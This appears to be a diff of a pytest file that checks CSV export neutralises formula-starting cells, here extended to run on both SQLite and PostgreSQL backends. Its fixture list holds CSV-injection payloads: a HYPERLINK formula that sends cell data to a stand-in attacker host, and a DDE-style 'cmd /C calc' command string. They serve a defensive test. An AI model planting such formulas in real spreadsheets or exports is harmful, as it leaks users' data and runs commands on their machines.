@@ -102,8 +102,12 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc
             "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
 
 
-def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
-    db = str(tmp_path / "f.db")
+@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres",
+                                                            marks=pytest.mark.postgres)])
+def test_csv_cells_that_start_a_formula_are_neutralised(
+    backend: str, request: pytest.FixtureRequest, tmp_path: Path
+) -> None:
+    db = request.getfixturevalue("pg_url") if backend == "postgres" else str(tmp_path / "f.db")
     s = open_store(db)
     for n, title in enumerate(FORMULAS):
         text = f"Report {n} about a formula title. " * 5
